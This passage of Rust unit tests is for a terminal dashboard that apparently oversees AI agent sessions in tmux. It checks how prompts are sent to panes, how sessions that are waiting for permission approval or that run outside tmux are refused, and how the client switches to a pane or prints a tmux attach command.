    for c in "run qtpx".chars() {
        assert!(press(&mut m, Key::Char(c)).is_empty());
    }
    press(&mut m, Key::Backspace);
    assert!(!m.quit);
    assert_eq!(
        press(&mut m, Key::Enter),
        vec![Effect::PromptPane(PromptRequest {
            root: m.snapshot.root.clone(),
            session: "input-new".into(),
            pane: "%4".into(),
            socket: Some("/tmp/tmux-1/default".into()),
            text: "run qtp".into(),
        })]
    );
    assert_eq!(m.mode, Mode::Normal);
    assert!(m.prompt_for.is_none() && m.answer.is_empty());
    update(
        &mut m,
        Event::PaneAnswered(Ok("sent the prompt to %4 (7 characters)".into())),
    );
    assert!(
        m.notice
            .as_ref()
            .unwrap()
            .text
            .starts_with("sent the prompt")
    );
    update(
        &mut m,
        Event::PaneAnswered(Err(
            "its pane does not show the client's empty prompt".into()
        )),
    );
    let n = m.notice.as_ref().unwrap();
    assert!(
        n.error && n.text.starts_with("nothing sent: its pane"),
        "{n:?}"
    );
    // Esc cancels: nothing is sent, the dashboard stays.
    press(&mut m, Key::Char('i'));
    press(&mut m, Key::Char('x'));
    assert!(press(&mut m, Key::Esc).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    assert!(m.prompt_for.is_none() && !m.quit);
    // An empty prompt sends nothing, and says so.
    press(&mut m, Key::Char('i'));
    assert!(press(&mut m, Key::Enter).is_empty());
    assert!(m.notice.as_ref().unwrap().text.contains("empty prompt"));
}

/// i refuses, with a notice and nothing asked of the loop, a session waiting for a
/// permission (p or n answer it), one that starts waiting for one while the prompt
/// is typed, and one outside tmux.
#[test]
fn i_refuses_a_session_waiting_for_a_permission_or_out_of_tmux() {
    let mut m = sessions_in_tmux();
    assert_eq!(m.selected_session().unwrap().session_id, "perm-1");
    assert!(press(&mut m, Key::Char('i')).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    let n = m.notice.as_ref().unwrap();
    assert!(n.error && n.text.contains("p approves, n denies"), "{n:?}");
    press(&mut m, Key::Down);
    press(&mut m, Key::Char('i'));
    press(&mut m, Key::Char('y'));
    for s in &mut m.snapshot.sessions {
        if s.session_id == "input-new" {
            s.attention = Some(crate::model::session::state::Attention::WaitingPermission);
        }
    }
    assert!(press(&mut m, Key::Enter).is_empty());
    assert!(
        m.notice
            .as_ref()
            .unwrap()
            .text
            .contains("waits for a permission")
    );
    // input-old runs outside tmux: said, and nothing typed.
    while m.selected_session().unwrap().session_id != "input-old" {
        press(&mut m, Key::Down);
    }
    assert!(press(&mut m, Key::Char('i')).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    assert!(
        m.notice
            .as_ref()
            .unwrap()
            .text
            .contains("does not run in tmux")
    );
}

/// t in the sessions pane goes to the selected session's tmux pane, as the fleet
/// list's t does: inside tmux on its server, the loop switches the client there;
/// outside tmux (or on another server), the attach command is said; a session out
/// of tmux is said. In the inbox, t still cycles the kind filter.
#[test]
fn t_goes_to_a_sessions_tmux_pane_or_says_how_to_attach() {
    let mut m = with_sessions();
    for s in &mut m.snapshot.sessions {
        if s.session_id == "perm-1" {
            s.tmux_pane = Some("%4".into());
            s.tmux_socket = Some("/tmp/tmux-1/default".into());
        }
    }
    press(&mut m, Key::Char('t'));
    assert_eq!(
        m.filter.kind,
        KindFilter::Session,
        "the inbox's t: the kind"
    );
    press(&mut m, Key::Char('c'));
    while m.focus != Pane::Sessions {
        press(&mut m, Key::Tab);
    }
    assert_eq!(m.selected_session().unwrap().session_id, "perm-1");
    // Outside tmux: the command that attaches.
    assert!(press(&mut m, Key::Char('t')).is_empty());
    let n = m.notice.clone().unwrap();
    assert!(!n.error);
    assert_eq!(
        n.text,
        "outside tmux; to get there run: tmux -S /tmp/tmux-1/default attach -t %4"
    );
    assert_eq!(
        m.filter.kind,
        KindFilter::All,
        "the kind filter is untouched"
    );
    // Inside tmux, on that server: the loop switches the client there.
    m.tmux = Some(Some("/tmp/tmux-1/default".into()));
    assert_eq!(
        press(&mut m, Key::Char('t')),
        vec![Effect::SwitchToPane {
            pane: "%4".into(),
            socket: Some("/tmp/tmux-1/default".into()),
        }]
    );
    update(&mut m, Event::Switched(Ok("work:1.0".into())));
    assert_eq!(m.notice.as_ref().unwrap().text, "switched to work:1.0");
    update(&mut m, Event::Switched(Err("its pane %4 is gone".into())));
    let n = m.notice.as_ref().unwrap();
    assert!(n.error && n.text == "could not go there: its pane %4 is gone");
    // On another server: switch-client cannot reach it; the command can.
    m.tmux = Some(Some("/tmp/tmux-1/other".into()));
    assert!(press(&mut m, Key::Char('t')).is_empty());
    assert!(
        m.notice
            .as_ref()
            .unwrap()
            .text
            .contains("another tmux server")
    );
    // A session outside tmux.
    press(&mut m, Key::Down);
    assert!(press(&mut m, Key::Char('t')).is_empty());
    let n = m.notice.as_ref().unwrap();
    assert!(n.error && n.text.contains("does not run in tmux"), "{n:?}");
}
